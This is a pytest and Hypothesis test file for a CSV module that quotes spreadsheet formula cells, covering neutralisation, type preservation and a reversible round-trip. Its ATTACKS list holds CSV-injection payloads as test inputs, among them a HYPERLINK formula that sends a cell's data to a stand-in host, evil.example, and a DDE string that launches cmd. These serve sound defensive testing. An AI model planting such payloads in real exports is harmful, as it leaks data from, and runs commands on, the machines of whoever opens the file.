"""Formula neutralisation of CSV cells (pipelines/csv_safe.py): what a spreadsheet would run
gets a leading quote; numbers and ordinary text do not change; the reversible form round-trips."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.csv_safe import (
    TRIGGERS,
    csv_bytes,
    neutralise,
    restore,
    restore_frame,
    safe_frame,
    write_csv,
)

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-", "+31 6 1234 5678", "-1"]
PLAIN = ["", "plain", "Raadsbesluit 12-3-2025", "'s-Gravenhage", "a=b", " =1+1", "1-2",
         "café", "2025-03-14", "NL_GM0363"]
# text starting with a quote, or with anything: spreadsheets trip on the first character only
texts = st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "1", "é"]),
                max_size=6) | st.text(max_size=20)


def runs_as_formula(cell) -> bool:
    return isinstance(cell, str) and cell[:1] in TRIGGERS


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_text_gets_a_quote(cell):
    assert neutralise(cell) == "'" + cell
    assert neutralise(cell, reversible=True) == "'" + cell


@pytest.mark.parametrize("cell", PLAIN)
def test_ordinary_text_is_left_alone(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3, np.int64(-3), np.float64(-0.5), Decimal("-1"),
                                   True, None, float("nan"), pd.NA])
def test_numbers_and_missing_values_keep_their_type(value):
    out = neutralise(value)
    assert out is value


@given(texts)
def test_no_output_runs_as_a_formula(cell):
    for reversible in (False, True):
        out = neutralise(cell, reversible=reversible)
        assert not runs_as_formula(out)
        assert out in (cell, "'" + cell)  # at most one quote added, nothing else touched


@given(texts)
def test_plain_mode_is_idempotent_and_changes_only_formula_text(cell):
    once = neutralise(cell)
    assert neutralise(once) == once
    assert (once != cell) == runs_as_formula(cell)


@given(texts)
def test_reversible_mode_round_trips_every_text(cell):
    assert restore(neutralise(cell, reversible=True)) == cell


def test_a_typed_quote_before_a_formula_survives_the_round_trip():
    # plain mode would leave "'=x" alone and restore would then strip the user's own quote
    assert neutralise("'=x") == "'=x"
    assert neutralise("'=x", reversible=True) == "''=x"
    assert restore("''=x") == "'=x"
    assert restore("'s-Gravenhage") == "'s-Gravenhage"  # a quote we never add stays


def test_safe_frame_touches_text_columns_and_headers_only():
    df = pd.DataFrame({"note": ["=1+1", "ok", None], "delta": [-2, 3, -1],
                       "ratio": [-0.5, 0.1, 2.0], "kind": pd.Categorical(["-x", "y", "-x"]),
                       "tag": pd.array(["@me", None, "z"], dtype="string"), "=evil": [1, 2, 3]})
    out = safe_frame(df)
    assert out["note"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["note"].iloc[2])
    assert out["delta"].tolist() == [-2, 3, -1] and out["delta"].dtype == df["delta"].dtype
    assert out["ratio"].tolist() == [-0.5, 0.1, 2.0]
    assert out["kind"].tolist() == ["'-x", "y", "'-x"]
    assert out["tag"].tolist()[0] == "'@me" and out["tag"].tolist()[2] == "z"
    assert list(out.columns) == ["note", "delta", "ratio", "kind", "tag", "'=evil"]
    assert df["note"].tolist()[0] == "=1+1"  # the input is not changed
    back = restore_frame(safe_frame(df, reversible=True))
    pd.testing.assert_frame_equal(back, df)


def test_csv_bytes_and_write_csv_neutralise(tmp_path):
    df = pd.DataFrame({"evidence": ["=HYPERLINK(\"x\")", "fine"], "level": [-1, 2]})
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8"))))
    assert rows == [["evidence", "level"], ["'=HYPERLINK(\"x\")", "-1"], ["fine", "2"]]
    write_csv(df, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == csv_bytes(df)


@given(st.lists(texts | st.none(), max_size=8))
def test_string_columns_are_narrowed_without_missing_a_change(cells):
    """The vectorised narrowing of string columns (`_changes`) finds exactly the columns the
    cell-by-cell check finds, for each function a frame is mapped through."""
    from pipelines.csv_safe import _changes
    fns = (neutralise, lambda v: neutralise(v, reversible=True), restore)
    for dtype in ("str", "string", "object"):
        col = pd.Series(cells, dtype=dtype)
        for fn in fns:
            expected = any(isinstance(v, str) and fn(v) is not v for v in cells)
            assert _changes(col, fn) is expected, (dtype, cells)
    frame = pd.DataFrame({"t": pd.Series(cells, dtype="str")})
    out = safe_frame(frame)["t"].tolist()
    for before, after in zip(frame["t"].tolist(), out, strict=True):
        assert pd.isna(after) if pd.isna(before) else after == neutralise(before)
